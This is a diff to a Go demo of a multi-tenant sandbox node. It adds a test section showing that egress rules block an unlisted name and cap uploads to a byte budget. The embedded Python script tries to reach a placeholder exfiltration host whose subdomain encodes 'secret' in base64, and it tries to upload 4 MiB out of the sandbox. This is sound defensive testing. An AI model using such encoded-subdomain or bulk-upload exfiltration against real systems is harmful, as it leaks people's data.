@@ -116,7 +116,7 @@ func (d *demo) run() (err error) {
 		fmt.Println("  the same demo in a guest where it is):")
 		d.show("node")
 	}
-	for _, part := range []func() error{d.tenants, d.agents, d.limits, d.crash, d.refusals, d.bill} {
+	for _, part := range []func() error{d.tenants, d.agents, d.names, d.limits, d.crash, d.refusals, d.bill} {
 		if err := part(); err != nil {
 			return err
 		}
@@ -125,7 +125,7 @@ func (d *demo) run() (err error) {
 }
 
 func (d *demo) tenants() error {
-	d.head("1. Two customers who do not trust each other share this node")
+	d.head("1. Customers who do not trust each other share this node")
 	out, code := d.show("tenant", "ls")
 	d.check("both tenants are there", code == 0 && strings.Contains(out, "acme") && strings.Contains(out, "globex"), out)
 	return nil
@@ -278,6 +278,51 @@ func (d *demo) agents() error {
 	return nil
 }
 
+// crawl asks each URL, then sends until nothing gets through any more.
+const crawl = `
+import sys, urllib.request
+for url in sys.argv[1:]:
+    try:
+        print(url, "answers:", urllib.request.urlopen(url, timeout=5).read().decode().strip())
+    except Exception as e:
+        print(url, "fails:", e.reason if hasattr(e, "reason") else e)
+try:
+    urllib.request.urlopen("http://api.example.com/upload", data=b"x" * (4 << 20), timeout=2)
+    print("4 MiB sent")
+except Exception as e:
+    print("4 MiB not sent:", type(e).__name__)
+`
+
+func (d *demo) names() error {
+	d.head("5. Names, a byte budget, and a log of what was tried")
+	const budget = 1 << 20
+	if _, err := d.agentSandbox("hooli", "crawler"); err != nil {
+		return err
+	}
+	out, _ := d.show("exec", "crawler", "python3", "-c", crawl, "http://api.example.com/", "http://eu.models.example.com/", "http://c2vjcmv0.exfil.example.org/", "http://"+rig.Forbidden4.String()+"/")
+	d.check("names that a rule allows resolve and answer", strings.Count(out, "answers:") == 2, out)
+	d.check("another name is refused, and no resolver has heard of it",
+		strings.Count(out, "fails:") == 2 && d.rig.Net.Asked("c2vjcmv0.exfil.example.org") == 0, out)
+	rec, err := d.get("crawler")
+	if err != nil {
+		return err
+	}
+	spent, _ := strconv.Atoi(rec.Network.EgressBytes)
+	d.check("of 4 MiB no more left than its tenant's budget of 1 MiB", strings.Contains(out, "not sent") && spent <= budget && spent > budget/2, out)
+	out, _ = d.show("explain", "crawler", "c2vjcmv0.exfil.example.org:80")
+	d.check("DENY the name", strings.HasPrefix(out, "DENY"), out)
+	d.show("explain", "crawler", "api.example.com:80")
+	out, _ = d.show("flows", "crawler")
+	d.check("the flow log has the lookups, the refusal and the spent budget",
+		strings.Contains(out, "api.example.com") && strings.Contains(out, "c2vjcmv0.exfil.example.org") && strings.Contains(out, "budget"), out)
+	out, _ = d.show("policy", "status", "crawler")
+	d.check("the policy's state names rules, hits, budget and names", strings.Contains(out, "model-api") && strings.Contains(out, "1MiB"), out)
+	if out, err := d.rig.CLI("rm", "-f", "crawler"); err != nil {
+		return fmt.Errorf("remove crawler: %w: %s", err, out)
+	}
+	return nil
+}
+
 // billed reads a sandbox's bytes from the gateway's ledger, once they have got
 // there.
 func (d *demo) billed(id string, want rig.Counted) (sent, received uint64, err error) {
@@ -318,7 +363,7 @@ func (d *demo) ledgerBytes(id string) (sent, received uint64, err error) {
 }
 
 func (d *demo) limits() error {
-	d.head("5. Limits hold")
+	d.head("6. Limits hold")
 	const burn = `
 import time
 begin, used = time.monotonic(), time.process_time()
@@ -343,7 +388,7 @@ print("burned %.2f CPU seconds in 3 s" % (time.process_time() - used))
 }
 
 func (d *demo) crash() error {
-	d.head("6. kill -9 of the agent changes nothing for the sandboxes")
+	d.head("7. kill -9 of the agent changes nothing for the sandboxes")
 	const loop = `
 import time, urllib.request
 while True:
@@ -425,7 +470,7 @@ func (d *demo) adopted(ref string) (record, error) {
 }
 
 func (d *demo) refusals() error {
-	d.head("7. No room, and who says so")
+	d.head("8. No room, and who says so")
 	out, code := d.show("run", "--tenant", "globex", "--cpus", "0.1", "--memory", "4GiB", busybox, "true")
 	d.check("a sandbox beyond its tenant's quota is refused with the limit and who set it", code == 1 && strings.Contains(out, "globex"), out)
 	out, code = d.show("run", "--tenant", "initech", busybox, "true")
@@ -434,7 +479,7 @@ func (d *demo) refusals() error {
 }
 
 func (d *demo) bill() error {
-	d.head("8. The bill")
+	d.head("9. The bill")
 	out, code := d.show("stop", "--grace", "1s", "acme-agent", "globex-agent", "ticker")
 	d.check("all stopped", code == 0, out)
 	time.Sleep(1500 * time.Millisecond) // the last records are on their way to the gateway
